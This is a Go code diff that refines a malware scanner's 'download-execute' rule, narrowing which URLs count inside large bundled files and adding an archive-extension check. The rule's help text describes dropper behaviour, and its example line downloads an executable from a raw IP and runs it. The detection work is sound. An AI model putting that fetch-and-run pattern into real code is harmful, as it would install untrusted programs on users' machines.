@@ -19,11 +19,13 @@ type DownloadExecute struct{}
 // Meta implements analyze.Rule.
 func (DownloadExecute) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "exec/download-execute", Version: 4, Title: "Downloads a program and runs it",
+		ID: "exec/download-execute", Version: 5, Title: "Downloads a program and runs it",
 		Help: "One file both downloads (HTTP request written to disk) and executes (spawn/exec/execFile, chmod +x, or process.dlopen of a native module). Binary installers such as " +
 			"esbuild or sharp do this from the npm registry or GitHub releases and are reported at low severity; an executable fetched from a raw IP, " +
 			"an unknown host or into a temp directory is a dropper: high severity when it comes from an unknown host, lands in a temp directory " +
-			"and is started detached with its output discarded. Requests to this machine (localhost, private addresses) are not downloads.",
+			"and is started detached with its output discarded. Requests to this machine (localhost, private addresses) are not downloads. " +
+			"In a bundle (over 512 KiB) the download, the write and the spawn need not be related: it is medium at most, and only URLs a " +
+			"request is given, or that name a program or an archive, count (not the documentation links of its error messages).",
 		Remediation:     "Check the download URL. Prefer packages that ship platform binaries as optional dependencies.",
 		Example:         `download("http://203.0.113.9/app.exe", tmp); execFileSync(tmp)`,
 		DefaultSeverity: finding.SeverityMedium, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
@@ -72,6 +74,23 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 				temp = true
 			}
 		}
+		// In a bundle, documentation links in error messages are not what
+		// it downloads: only URLs a request is given, or that name a
+		// program or an archive, count there.
+		bundle := f.Facts.Size > 512<<10
+		var requested map[string]bool
+		if bundle {
+			requested = map[string]bool{}
+			for _, c := range f.Facts.Calls {
+				if rulekit.IsNetCall(c) {
+					for _, a := range c.Args {
+						for _, u := range rulekit.URLs(rulekit.Text(a)) {
+							requested[u] = true
+						}
+					}
+				}
+			}
+		}
 		for _, s := range f.Facts.Strings {
 			if len(s.Value) > 2048 {
 				continue
@@ -81,8 +100,11 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 				if rulekit.LocalHost(h) {
 					continue // a request to this machine downloads nothing
 				}
-				urls++
 				ext := strings.ToLower(path.Ext(rulekit.URLPath(u)))
+				if bundle && !requested[u] && !execExt[ext] && !archiveExt(u) {
+					continue
+				}
+				urls++
 				switch {
 				case rulekit.PublicIP(h):
 					sev, why = finding.SeverityCritical, "fetches from raw IP "+h
@@ -117,6 +139,18 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 		r.Report(analyze.Instance{File: f.Name, Line: runLine, Severity: sev, Message: fmt.Sprintf("downloads a file and executes it (%s)", why), Evidence: rulekit.Ev(runSnip, "", "")})
 	}
 	return nil
+}
+
+// archiveExt reports a URL naming an archive, which installers unpack
+// and run.
+func archiveExt(u string) bool {
+	p := strings.ToLower(rulekit.URLPath(u))
+	for _, ext := range []string{".zip", ".tar.gz", ".tgz", ".tar.xz", ".tar.bz2", ".tar", ".7z", ".gz", ".xz"} {
+		if strings.HasSuffix(p, ext) {
+			return true
+		}
+	}
+	return false
 }
 
 // Cryptominer flags code that runs or configures a cryptocurrency miner.
